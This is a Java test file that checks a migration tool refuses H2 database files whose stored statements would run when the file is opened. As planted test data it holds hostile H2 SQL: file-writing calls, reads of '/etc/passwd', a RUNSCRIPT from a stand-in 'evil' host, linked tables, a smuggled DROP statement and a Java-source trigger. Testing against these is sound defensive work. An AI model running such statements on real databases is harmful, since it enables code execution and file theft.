package dev.kinship.live;

import static org.assertj.core.api.Assertions.assertThat;

import dev.kinship.cases.Case.Tree;
import dev.kinship.database.Canary;
import dev.kinship.database.PlantedH2;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** H2 runs what a database file keeps when it opens one; {@code kin} runs none of it. */
class LiveStrangersH2Test {
  private static final String[] TABLES = {
    "CREATE TABLE users (id INTEGER NOT NULL PRIMARY KEY, name VARCHAR(50) NOT NULL)",
    "CREATE TABLE orders (id INTEGER NOT NULL PRIMARY KEY, total FLOAT NOT NULL)"
  };

  @TempDir Path scratch;
  private LiveProject project;
  private Path canary;

  @BeforeEach
  void prepare() throws Exception {
    project = LiveProject.in(Files.createDirectory(scratch.resolve("project")));
    canary = scratch.resolve("canary");
    Canary.at(canary);
  }

  private PlantedH2 database() throws SQLException {
    return PlantedH2.with(project.folder().resolve("shop"), TABLES);
  }

  private void refuses(String what) {
    Tree before = project.tree();
    project
        .add("jdbc:h2:./shop", "--dry-run")
        .exits(1)
        .says(
            "error[KIN914]: `./shop` has " + what,
            "help: leave --db out to read the migrations instead; ",
            "--db jdbc:h2:tcp://localhost/");
    assertThat(canary).doesNotExist();
    assertThat(project.tree()).isEqualTo(before);
  }

  /** H2 runs it if the file is not looked into first. */
  private void runs(PlantedH2 database) throws Exception {
    try {
      database.openCarelessly();
    } catch (SQLException e) {
      // It has run by then.
    }
    assertThat(canary).exists();
    Files.deleteIfExists(canary);
    Files.deleteIfExists(project.folder().resolve("shop.trace.db"));
  }

  @Test
  void runsNoTriggerOfJavaSource() throws Exception {
    PlantedH2 database =
        PlantedH2.with(
            project.folder().resolve("shop"),
            TABLES[0],
            """
            CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW AS $$
              org.h2.api.Trigger create() throws Exception {
                java.nio.file.Files.writeString(java.nio.file.Path.of("%s"), "x");
                return new org.h2.tools.TriggerAdapter() {
                  public void fire(java.sql.Connection c, java.sql.ResultSet a, java.sql.ResultSet b) {}
                };
              }
            $$"""
                .formatted(canary));
    assertThat(canary).exists();
    Files.delete(canary);
    runs(database);
    refuses("a trigger that opening it would run");
  }

  /** What an attacker has put among H2's statements; the number says when H2 runs it. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          11 | CREATE CONSTANT "PUBLIC"."C" VALUE FILE_WRITE(X'00', 'CANARY') | a call of FILE_WRITE
          11 | CREATE CONSTANT "PUBLIC"."C" VALUE file_write(X'00', 'CANARY') | a call of FILE_WRITE
          11 | CREATE CONSTANT "PUBLIC"."C" VALUE/**/FILE_WRITE/**/(X'00', 'CANARY') | a call of FILE_WRITE
          11 | CREATE CONSTANT "PUBLIC"."C" VALUE CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
          11 | CREATE CONSTANT "PUBLIC"."C" VALUE U&"\\0043SVWRITE"('CANARY', 'SELECT 1') | a call of CSVWRITE
          11 | CREATE CONSTANT "PUBLIC"."C" VALUE U&"!0043SVWRITE" UESCAPE '!' ('CANARY', 'SELECT 1') | a statement that H2 does not write
          3 | CREATE SEQUENCE "PUBLIC"."S" START WITH CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
          9 | CALL CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
          0 | CREATE CACHED TABLE "PUBLIC"."T"("A" INTEGER) AS SELECT CSVWRITE('CANARY', 'SELECT 1') | a call of CSVWRITE
          """)
  void runsNoPlantedStatement(int type, String sql, String what) throws Exception {
    PlantedH2 database = database().plant(type, sql.replace("CANARY", canary.toString()));
    runs(database);
    refuses(what);
  }

  /** What is not proved to write a file here: it needs a class, a server or a query. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          4 | CREATE FORCE TRIGGER "PUBLIC"."T" BEFORE INSERT ON "PUBLIC"."USERS" CALL 'a.B' | a trigger
          9 | CREATE FORCE ALIAS "PUBLIC"."A" FOR 'java.lang.System.exit' | a function in Java
          14 | CREATE FORCE AGGREGATE "PUBLIC"."A" FOR 'a.B' | an aggregate in Java
          0 | CREATE FORCE LINKED TABLE "PUBLIC"."L"('', 'jdbc:h2:tcp://evil/x', 'sa', '', 'X') | a table of another database
          0 | CREATE CACHED TABLE "PUBLIC"."T"("A" INTEGER) ENGINE "a.B" | a table engine
          6 | SET DATABASE_EVENT_LISTENER 'a.B' | an event listener
          6 | SET JAVA_OBJECT_SERIALIZER 'a.B' | a serializer
          6 | SET AUTHENTICATOR TRUE | an authenticator
          6 | SET TRACE_LEVEL_FILE 3 | a statement that H2 does not write
          0 | CREATE FORCE VIEW "PUBLIC"."V"("A") AS SELECT * FROM CSVREAD('/etc/passwd') | a call of CSVREAD
          0 | CREATE FORCE VIEW "PUBLIC"."V"("A") AS SELECT FILE_READ('/etc/passwd') | a call of FILE_READ
          0 | CREATE CACHED TABLE "PUBLIC"."T"("A" INTEGER DEFAULT FILE_READ('/etc/passwd')) | a call of FILE_READ
          5 | ALTER TABLE "PUBLIC"."USERS" ADD CONSTRAINT "PUBLIC"."C" CHECK(LINK_SCHEMA('A','','jdbc:h2:tcp://evil/x','','','P') IS NULL) NOCHECK | a call of LINK_SCHEMA
          15 | RUNSCRIPT FROM 'http://evil/x.sql' | a statement that H2 does not write
          15 | SCRIPT TO '/tmp/x.sql' | a statement that H2 does not write
          15 | BACKUP TO '/tmp/x.zip' | a statement that H2 does not write
          15 | ALTER TABLE "PUBLIC"."USERS" RENAME TO "X" | a statement that H2 does not write
          15 | COMMENT ON TABLE "PUBLIC"."USERS" IS 'a'; DROP TABLE "PUBLIC"."USERS" | a statement that H2 does not write
          15 | SET MODE (SELECT 1) | a statement that H2 does not write
          15 | '' | a statement that H2 does not write
          """)
  void refusesWhateverElseCouldRun(int type, String sql, String what) throws Exception {
    database().plant(type, sql);
    refuses(what + " that opening it would run");
  }

  @Test
  void loadsNoClassThatAFileRegistersAsAType() throws Exception {
    PlantedH2 database = database().plant(new Canary.Type());
    Files.delete(canary);
    runs(database);
    refuses("the class `dev.kinship.database.Canary$Type`, which opening it would load");
  }

  @Test
  void makesNoJavaObjectOfAFile() throws Exception {
    PlantedH2 database = database().plant(new Canary());
    runs(database);
    refuses("Java objects, which opening it would make");
  }

  @Test
  @Tag("slow")
  void givesUpAFileThatTakesForEverToOpen() throws Exception {
    database()
        .plant(
            11,
            """
            CREATE CONSTANT "PUBLIC"."C" VALUE
            (SELECT COUNT(*) FROM SYSTEM_RANGE(1, 400000000) WHERE MOD(X, 7) = 3)""");
    project
        .add("jdbc:h2:./shop", "--dry-run")
        .exits(3)
        .says("error[KIN921]: opening `./shop` takes longer than 10 seconds");
  }

  /** The second wall, should a name get past the first one: a server can send one as well. */
  @Test
  void allowsNoClassToBeLoaded() throws Exception {
    database();
    project.add("jdbc:h2:./shop", "--dry-run").exits(0);
    assertThat(System.getProperty("h2.allowedClasses")).isEmpty();
  }

  /** H2 takes files with such names for its own, and deletes or moves them. */
  @Test
  void touchesNothingBesideTheFile() throws Exception {
    database();
    for (String it : List.of("shop.1.temp.db", "shop.mv.db.tempFile", "shop.mv.db.newFile")) {
      Files.writeString(project.folder().resolve(it), "mine");
    }
    Tree before = project.tree();
    project.add("jdbc:h2:./shop", "--dry-run").exits(0).says("ALTER TABLE orders");
    assertThat(files(project.tree())).isEqualTo(files(before));
    Files.delete(project.folder().resolve("shop.mv.db"));
    Tree without = project.tree();
    project.add("jdbc:h2:./shop", "--dry-run").exits(3).says("error[KIN912]");
    assertThat(files(project.tree())).isEqualTo(files(without));
  }

  private static Map<String, String> files(Tree tree) {
    return Map.copyOf(tree.files());
  }

  /** Everything that H2 keeps and that runs nothing is read as ever. */
  @Test
  void readsAnOrdinaryFile() throws Exception {
    PlantedH2.with(
        project.folder().resolve("shop"),
        "CREATE DOMAIN mail AS VARCHAR(200) CHECK (VALUE LIKE '%@%')",
        "CREATE SEQUENCE numbers START WITH 5",
        "CREATE SCHEMA other",
        "CREATE USER bob PASSWORD 'x'",
        "CREATE ROLE clerk",
        """
        CREATE TABLE users (id INTEGER GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY,
          name VARCHAR(50) DEFAULT 'a;b''c--/* ENGINE' NOT NULL, mail mail, tags VARCHAR(9) ARRAY
          DEFAULT ARRAY['a', 'b'], born TIMESTAMP DEFAULT CURRENT_TIMESTAMP, doc CLOB, e ENUM('x'),
          n INTEGER DEFAULT NEXT VALUE FOR numbers CHECK (n > 0), "größe" INTEGER, j JSON,
          up VARCHAR GENERATED ALWAYS AS (UPPER(name)), engine VARCHAR(9), d DECIMAL(10, 2))""",
        "CREATE TABLE orders (id INTEGER PRIMARY KEY, total FLOAT, note VARCHAR(9) COMMENT 'it''s')",
        "CREATE MEMORY TABLE other.pairs (a INTEGER, b INTEGER, UNIQUE (a, b))",
        "CREATE UNIQUE INDEX totals ON orders (total DESC, id)",
        "CREATE VIEW v AS SELECT o.id, '\"' || u.name AS n FROM orders o JOIN users u ON o.id = u.id",
        "CREATE VIEW r AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 9) SELECT n FROM c",
        "CREATE SYNONYM people FOR users",
        "CREATE CONSTANT one VALUE 1",
        "COMMENT ON TABLE orders IS 'the ''orders''; über $$ `all`'",
        "GRANT SELECT ON orders TO clerk",
        "GRANT clerk TO bob",
        "ALTER TABLE orders ADD CONSTRAINT positive CHECK (total >= 0)",
        "SET CACHE_SIZE 1000",
        "SET DEFAULT_LOCK_TIMEOUT 5000",
        "INSERT INTO users (id, name, doc, engine) VALUES (1, 'Ada', 'x', 'y')",
        "ANALYZE");
    project.add("jdbc:h2:./shop").exits(0).says("Written: ").saysNot("note[KIN4");
    assertThat(project.migration()).contains("ALTER TABLE orders").doesNotContain("CREATE TABLE");
  }

  @Test
  void readsAFileByItsWholePathAndFromTheHomeFolder() throws Exception {
    database();
    String path = project.folder().resolve("shop").toString();
    project.add("jdbc:h2:file:" + path + ";MODE=MySQL;DB_CLOSE_DELAY=-1", "--dry-run").exits(0);
    project.add("jdbc:h2:shop;AUTO_SERVER=TRUE", "--dry-run").exits(0);
    project.add("jdbc:h2:~/no-such-file", "--dry-run").exits(3).says("error[KIN912]");
  }

  @Test
  void endsAtAFileThatIsBroken() throws Exception {
    database();
    Path file = project.folder().resolve("shop.mv.db");
    byte[] bytes = Files.readAllBytes(file);
    for (int at = 4096; at < bytes.length; at += 3) {
      bytes[at] ^= 0x55;
    }
    Files.write(file, bytes);
    project.add("jdbc:h2:./shop", "--dry-run").exits(3).says("error[KIN913]: ").saysNot("\tat ");
    Files.writeString(file, "no database");
    project.add("jdbc:h2:./shop", "--dry-run").exits(3).saysNot("\tat ");
  }
}
